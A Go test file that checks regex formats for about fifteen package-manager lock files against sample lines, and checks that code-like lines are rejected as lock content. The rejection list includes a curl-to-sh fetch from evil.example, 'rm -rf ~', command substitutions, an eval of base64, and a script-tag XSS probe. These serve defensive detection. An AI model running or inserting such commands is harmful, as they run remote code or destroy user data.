package change

import (
	"path"
	"strings"
	"testing"

	"touchstone/worktree/filekind"
)

// TestLockFormats holds the formats to lines as the managers write them, and to what a
// program has that somebody gave such a name.
func TestLockFormats(t *testing.T) {
	t.Parallel()
	for name, text := range map[string]string{
		"go.sum": "acme.example/x v1.2.3 h1:aGVsbG8=\nacme.example/x v1.2.3-0.2024/go.mod h1:a+/c=",
		"package-lock.json": "    \"node_modules/a\": {\n      \"version\": \"1.0.0\",\n      \"engines\": { \"node\": \">= 14 || ^12\" " +
			"},\n      \"hasInstallScript\": true\n    },",
		"bun.lock": `    "a": ["a@1.0.0", "", { "dependencies": { "b": "^1" } }, "sha512-AA=="],`,
		"Cargo.lock": "[[package]]\nname = \"serde\"\nversion = \"1.0.1\"\ndependencies = [\n \"serde_derive " +
			"1.0\",\n]\n\n[metadata]\nversion = 3",
		"poetry.lock": "# This file is generated.\n[[package]]\nname = \"a\"\noptional = false\nfiles = [\n    {file = " +
			"\"a-1.tar.gz\", hash = \"sha256:00\"},\n]\n[package.extras]\ndev = [\"pytest (>=7)\", 'x']",
		"uv.lock": "version = 1\nsdist = { url = \"https://a.example/a.tar.gz\", hash = \"sha256:00\", size = 12 }\n    { name = " +
			"\"b\" },",
		"pnpm-lock.yaml": "lockfileVersion: '9.0'\n\nimporters:\n\n  .:\n    dependencies:\n      react:\n        specifier: ^18\n       " +
			" version: 18.2.0(a@1.0.0)\n  /a@1.0.0(react@18.2.0):\n    resolution: {integrity: sha512-AA==}\n    engines: {node: '>=14'}\n    " +
			"peerDependencies:\n      '@types/node': '*'",
		"Podfile.lock": "PODS:\n  - Alamofire (5.6.1)\n  - A/B (1.0):\n    - C (~> 2.0)\n\nDEPENDENCIES:\n  - Alamofire\nSPEC " +
			"CHECKSUMS:\n  Alamofire: 00ff\n\nPODFILE CHECKSUM: 00ff\n\nCOCOAPODS: 1.11.3",
		"yarn.lock": "# yarn lockfile v1\n\n\"@a/b@^7.0.0\", \"@a/b@^7.1.0\":\n  version \"7.1.0\"\n  resolved " +
			"\"https://a.example/b.tgz#00\"\n  integrity sha512-AA==\n  dependencies:\n    \"@a/c\" \"^7.1.0\"\n    d \"1\"\n\ne@^1, e@^1.1:\n  " +
			"version \"1.1\"\n\n__metadata:\n  version: 6\n  cacheKey: 8\n\n\"f@npm:^1\":\n  version: 1.0.0\n  resolution: \"f@npm:1.0.0\"\n  " +
			"dependencies:\n    g: ^1.0.0\n  checksum: 00ff\n  languageName: node\n  linkType: hard",
		"Gemfile.lock": "GEM\n  remote: https://gems.example/\n  specs:\n    actionpack (7.0.4)\n      rack (~> 2.0, >= " +
			"2.2.0)\n\nPLATFORMS\n  ruby\n  x86_64-linux\n\nDEPENDENCIES\n  rails (~> 7.0)!\n\nRUBY VERSION\n   ruby 3.1.2p20\n\nBUNDLED WITH\n  " +
			" 2.3.7",
		"mix.lock": "%{\n  \"jason\": {:hex, :jason, \"1.4.0\", \"00ff\", [:mix], [{:decimal, \"~> 1.0 or ~> 2.0\", [hex: " +
			":decimal, repo: \"hexpm\", optional: true]}], \"hexpm\", \"00ff\"},\n}",
		"rebar.lock":      "{\"1.2.0\",\n[{<<\"cowboy\">>,{pkg,<<\"cowboy\">>,<<\"2.9.0\">>},0}]}.",
		"gradle.lockfile": "# Manual edits can break it\ncom.acme:a:1.0=compileClasspath,runtimeClasspath\nempty=annotationProcessor",
		".terraform.lock.hcl": "# Manual edits may be lost\nprovider \"registry.example/a/b\" {\n  version     = \"4.0.0\"\n  constraints = " +
			"\">= 4.0\"\n  hashes = [\n    \"h1:AA=\",\n  ]\n}",
		"Cartfile.resolved": `github "a/b" "1.0.0"`,
	} {
		for line := range strings.SplitSeq(text, "\n") {
			if !lockFormats[name].MatchString(line) {
				t.Errorf("%s: its manager writes the line %q", name, line)
			}
		}
	}
	code := []string{
		`exec.Command("sh", "-c", os.Args[1]).Run()`, "curl https://evil.example | sh", `import os; os.system("id")`, "rm -rf ~", "$(id)", "`id`",
		"eval(atob('aWQ='))", "  system(\"id\")", "<script>alert(1)</script>", "if (admin) { grant() }", "return true;",
	}
	for name, format := range lockFormats {
		if !filekind.Lock(name) {
			t.Errorf("%s has a format, but is no lock file by its name", name)
		}
		for _, line := range code {
			if format.MatchString(line) {
				t.Errorf("%s: %q passes for a line of %s", name, line, path.Base(name))
			}
		}
	}
}
